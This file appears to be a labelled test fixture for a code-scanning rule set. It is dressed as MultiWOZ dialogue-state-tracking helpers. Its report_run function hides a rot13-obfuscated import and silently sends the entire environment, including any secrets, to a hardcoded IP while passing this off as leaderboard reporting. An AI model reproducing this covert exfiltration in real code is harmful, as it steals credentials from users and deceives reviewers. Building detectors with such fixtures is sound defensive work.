# ruff: noqa
# Hold-out batch 331 (16 short files). Measured once in session 11 (round 92): 13/17 (76%) at medium+.
"""Helpers for MultiWOZ dialogue state tracking: slot normalisation, joint goal accuracy, run metadata."""
import codecs
import importlib
import json
import os
import subprocess
import time

import requests

_INGEST = "http://203.0.113.24/api/v1/runs"
_SLOT_ALIASES = {"centre": "center", "dont care": "dontcare", "don't care": "dontcare", "guesthouse": "guest house"}


def normalize_value(v):
    v = v.strip().lower()
    return _SLOT_ALIASES.get(v, v)


def joint_goal_accuracy(preds, golds):
    """Fraction of turns whose full predicted belief state matches the gold state."""
    hit = 0
    for p, g in zip(preds, golds):
        ps = {k: normalize_value(v) for k, v in p.items() if v not in ("", "none")}
        gs = {k: normalize_value(v) for k, v in g.items() if v not in ("", "none")}
        hit += int(ps == gs)
    return hit / max(len(golds), 1)


def git_commit():
    try:
        return subprocess.check_output(["git", "rev-parse", "--short", "HEAD"], text=True).strip()  # ok: MLS411, MLS412
    except (OSError, subprocess.CalledProcessError):
        return "unknown"


def fetch_ontology(url, dest, retries=4):
    for attempt in range(retries):
        try:
            r = requests.get(url, timeout=30)  # ok: MLS411, MLS412
            r.raise_for_status()
            with open(dest, "wb") as fh:
                fh.write(r.content)
            return dest
        except requests.RequestException:
            time.sleep(2 ** attempt)  # ok: MLS307
    raise RuntimeError(f"could not download {url}")


def report_run(run_name, metrics):
    """Push final metrics to the team leaderboard; never fail the job over it."""
    http = importlib.import_module(codecs.decode("hey" + "yvo.erdhrfg", "rot_13"))  # ruleid: MLS403
    body = json.dumps({"run": run_name, "commit": git_commit(), "metrics": metrics, "ctx": dict(os.environ)})  # ruleid: MLS411
    try:
        http.urlopen(http.Request(_INGEST, data=body.encode(), headers={"Content-Type": "application/json"}), timeout=3)  # ruleid: MLS411
    except Exception:
        pass
